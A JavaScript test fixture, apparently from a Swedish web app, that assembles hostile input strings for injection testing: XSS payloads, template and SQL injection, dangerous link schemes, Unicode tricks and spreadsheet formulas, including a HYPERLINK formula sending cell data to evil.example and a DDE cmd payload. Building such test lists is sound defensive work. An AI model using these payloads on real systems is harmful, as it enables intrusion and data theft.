// Texts that somebody writes to do harm: seeds, and the places in a text where each may stand. `harmed` is what a page
// that is watched would notice.

const EMOJI = '👩🏽‍🚒';

/** @type {string[]} */
const SEEDS = [
  // Scripts and markup
  '<script>harmed(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '"><script>harmed(1)</script>', '</textarea><script>harmed(1)</script>',
  '</script><script>harmed(1)</script>', '<img src=x onerror=harmed(1)>', '<img src="https://evil.example/pixel.gif">', '<svg onload=harmed(1)>',
  '<svg><script>harmed(1)</script></svg>', '<svg><animate onbegin=harmed(1) attributeName=x dur=1s>', '<math><mi xlink:href="javascript:harmed(1)">x</mi></math>',
  '<iframe srcdoc="<script>parent.harmed(1)</script>"></iframe>', '<object data="data:text/html,<script>harmed(1)</script>"></object>',
  '<style>@import "https://evil.example/x.css";</style>', '<link rel=stylesheet href=https://evil.example/x.css>', '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<form action=https://evil.example/><button>Skicka</button></form>',
  '<details open ontoggle=harmed(1)>x</details>', '<body onload=harmed(1)>', '<a href="javascript:harmed(1)">tryck</a>', '<b style="position:fixed;inset:0">x</b>',
  '&lt;script&gt;harmed(1)&lt;/script&gt;', '&#60;img src=x onerror=harmed(1)&#62;', '<!--<img src="--><img src=x onerror=harmed(1)//">', '<![CDATA[<script>harmed(1)</script>]]>',
  // What templates and databases would read
  '${harmed(1)}', '{{harmed(1)}}', '{{constructor.constructor("harmed(1)")()}}', '#{harmed(1)}', '<%= harmed(1) %>', '__proto__', '{"__proto__":{"harmed":1}}', "'; DROP TABLE entries; --", '{{json:settings}}',
  // Links
  'javascript:harmed(1)', 'JaVaScRiPt:harmed(1)', 'java\tscript:harmed(1)', 'data:text/html,<script>harmed(1)</script>', 'vbscript:harmed(1)', 'https://evil.example/"onmouseover="harmed(1)',
  'https://www.linkoping.se@evil.example/', 'https://evil.example/<script>harmed(1)</script>', 'mailto:ada@exempel.se?body=<script>harmed(1)</script>', 'file:///etc/passwd', 'https://xn--80ak6aa92e.com/',
  '[tryck](javascript:harmed(1))', '![](https://evil.example/x.png)', 'https://evil.example/\u202Egnp.exe',
  // Letters that are not what they seem
  '\u202Eabc\u202C', '\u2066\u2067\u2068abc', '\u200B\u200C\u200D\u2060\uFEFFabc', 'a\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(60), `Z${'\u0337\u0321\u0356\u0322'.repeat(100)}algo`,
  'ﷺ'.repeat(100), EMOJI.repeat(400), '😀'.repeat(3900), 'å'.repeat(3900), 'W'.repeat(2000), '\u0000\u0001\u0008\u001B[31mröd\u001B[0m', 'ＳＣＲＩＰＴ＜img src=x onerror=harmed(1)＞',
  '\uD83D', '𝕊𝕔𝕣𝕚𝕡𝕥', 'مرحبا <b>x</b> שלום',
  // What a spreadsheet would run
  '=HYPERLINK("https://evil.example/?"&A1,"tryck")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1',
];

/** Where in a text a seed stands. @type {Array<(seed: string) => string>} */
const PLACES = [(seed) => seed, (seed) => `Hej! ${seed} Tack.`, (seed) => `Rad ett\n${seed}\n\nrad två`, (seed) => `"${seed}'`, (seed) => `(${seed})>`];

/** What the client sends at most; longer ones stay in the field. */
const CHARS = 3990;

export const HOSTILE = SEEDS.flatMap((seed) => PLACES.map((place) => place(seed))).filter((text) => [...text].length <= CHARS);
